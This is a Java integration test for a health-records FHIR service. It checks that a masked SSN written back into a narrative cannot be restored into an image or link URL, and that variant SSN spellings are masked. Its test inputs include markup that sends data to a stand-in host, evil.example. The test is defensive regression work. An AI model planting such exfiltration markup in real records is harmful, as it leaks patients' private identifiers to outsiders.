package health.carapace.records;

import static org.assertj.core.api.Assertions.assertThat;

import health.carapace.testing.Fakes;
import health.carapace.testing.IntegrationTest;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import org.hl7.fhir.r4.model.Narrative;
import org.hl7.fhir.r4.model.Patient;
import org.junit.jupiter.api.Test;

/**
 * The narrative of a record is HTML that other people's clients render. A caller without view:ssn
 * sees its SSNs masked; it must not be able to move a hidden SSN, by writing the mask back, into a
 * place where a privileged reader's browser sends it elsewhere (an image or link URL); and every
 * common way of writing an SSN in a narrative is masked on the way out. Found in review (after
 * issue 12): the write-back restored a mask placed in {@code <img src="https://evil.example/?***-**-1234">}
 * to the real SSN, and {@code 123.45.6789}, {@code 123-45-<b>6789</b>} and non-ASCII hyphens were
 * served in clear.
 */
class NarrativeSsnCannotBeMovedOrMissedTest extends IntegrationTest {

    private static final String XHTML = "<div xmlns=\"http://www.w3.org/1999/xhtml\">";

    private final String last4 = Fakes.digits(4);
    private final String ssn = "8" + Fakes.digits(2) + "-" + Fakes.digits(2) + "-" + last4;

    @Test
    void aMaskWrittenBackIntoAnAttributeIsRefusedAndTheSsnNeverReachesAUrl() {
        String frontDesk = tokenWithRoles("narrative-mover", "records-service");
        String patient = create(XHTML + "SSN " + ssn + "</div>");
        Patient seen = parse(send(frontDesk, "GET", "Patient/" + patient, null).body());
        String mask = "***-**-" + last4;
        assertThat(seen.getText().getDivAsString()).contains(mask);

        for (String moved : new String[] {
                XHTML + "<img src=\"https://evil.example/x?" + mask + "\"/></div>",
                XHTML + "<a href=\"https://evil.example/?" + mask + "\">chart</a></div>",
                XHTML + "<span title=\"" + mask + "\">SSN on file</span></div>"}) {
            seen.getText().setStatus(Narrative.NarrativeStatus.GENERATED).setDivAsString(moved);
            HttpResponse<String> put = send(frontDesk, "PUT", "Patient/" + patient, json(seen));
            assertThat(put.statusCode()).as(moved).isEqualTo(403);
            assertThat(put.body()).contains("ssn-change-needs-view-ssn");
        }
        String stored = send(token(), "GET", "Patient/" + patient, null).body();
        assertThat(stored).contains(ssn).doesNotContain("evil.example");
    }

    @Test
    void everyCommonSpellingOfAnSsnInTheNarrativeIsMaskedForACallerWithoutViewSsn() {
        String frontDesk = tokenWithRoles("narrative-reader", "records-service");
        String digits = ssn.replace("-", "");
        String[] spellings = {
                digits.substring(0, 3) + "." + digits.substring(3, 5) + "." + digits.substring(5),
                digits.substring(0, 3) + "-" + digits.substring(3, 5) + "-<b>" + digits.substring(5) + "</b>",
                digits.substring(0, 3) + "\u2011" + digits.substring(3, 5) + "\u2011" + digits.substring(5),
                digits.substring(0, 3) + "\u00a0" + digits.substring(3, 5) + "\u00a0" + digits.substring(5),
                digits.substring(0, 3) + "-" + digits.substring(3, 5) + " " + digits.substring(5)};
        for (String spelling : spellings) {
            String patient = create(XHTML + "SSN " + spelling + "</div>");
            String div = parse(send(frontDesk, "GET", "Patient/" + patient, null).body()).getText().getDivAsString();
            // what a reader sees: the text without markup, digits only
            String text = java.util.regex.Pattern.compile("&#(x?)([0-9a-fA-F]+);").matcher(div.replaceAll("<[^>]*>", ""))
                    .replaceAll(m -> Character.toString(Integer.parseInt(m.group(2), m.group(1).isEmpty() ? 10 : 16)));
            String shown = java.text.Normalizer.normalize(text, java.text.Normalizer.Form.NFKC)
                    .replaceAll("[^0-9]", "");
            assertThat(shown).as(spelling).doesNotContain(digits);
        }
    }

    private String create(String div) {
        Patient patient = new Patient();
        patient.getText().setStatus(Narrative.NarrativeStatus.GENERATED).setDivAsString(div);
        patient.addName().setFamily("Narrative" + Fakes.letters(8));
        HttpResponse<String> created = send(token(), "POST", "Patient", json(patient));
        assertThat(created.statusCode()).isEqualTo(201);
        return parse(created.body()).getIdElement().getIdPart();
    }

    private Patient parse(String body) {
        return fhir.newJsonParser().parseResource(Patient.class, body);
    }

    private String json(Patient patient) {
        return fhir.newJsonParser().encodeResourceToString(patient);
    }

    private HttpResponse<String> send(String token, String method, String path, String json) {
        HttpRequest.Builder request = HttpRequest.newBuilder(uri("/fhir/" + path)).header("Authorization", "Bearer " + token);
        if (json == null) {
            return sendWithoutToken(request.method(method, HttpRequest.BodyPublishers.noBody()));
        }
        return sendWithoutToken(request.header("Content-Type", "application/fhir+json")
                .method(method, HttpRequest.BodyPublishers.ofString(json)));
    }
}
